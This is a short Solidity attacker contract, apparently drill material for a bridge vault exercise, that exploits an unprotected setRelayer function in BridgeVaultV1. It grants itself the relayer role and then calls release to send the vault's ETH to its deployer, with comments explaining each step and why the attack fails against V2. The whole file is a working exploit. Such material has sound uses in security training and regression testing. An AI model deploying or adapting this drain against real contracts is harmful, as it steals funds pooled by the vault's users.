// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @dev The two BridgeVault functions the attacker needs.
interface IBridgeVault {
    function setRelayer(address relayer, bool allowed) external;
    function release(address to, uint256 amount) external;
}

/// @title RelayerAttacker - exploits BridgeVaultV1.setRelayer (drill material)
/// @notice How the attack works, for `attack(11 ether)`:
///   1. call vault.setRelayer(this, true): the setter has no role check, so
///      this contract now holds RELAYER_ROLE (the first time; afterwards
///      the call changes nothing);
///   2. call vault.release(owner, amount): as a relayer it may release the
///      pool's ETH anywhere, so it sends it to its owner.
/// Both steps run in every attack, so the attack needs nothing from an
/// earlier one. Against BridgeVaultV2 step 1 reverts, so the whole attack
/// reverts; if the vault is paused, step 2 reverts.
contract RelayerAttacker {
    /// @notice Who deployed this contract and receives the loot.
    address public immutable owner;
    /// @notice The vault (its proxy address) under attack.
    IBridgeVault public immutable vault;

    /// @notice Emitted once per attack with the amount released to the owner.
    event Looted(uint256 amount);

    constructor(address vaultAddr) {
        owner = msg.sender;
        vault = IBridgeVault(vaultAddr);
    }

    /// @notice Make this contract a relayer, then release up to `amount`
    /// (what the vault holds, if less) to the owner.
    function attack(uint256 amount) external {
        require(msg.sender == owner, "not owner");
        vault.setRelayer(address(this), true);
        uint256 held = address(vault).balance;
        uint256 take = amount < held ? amount : held;
        require(take > 0, "nothing to take");
        vault.release(owner, take);
        emit Looted(take);
    }
}
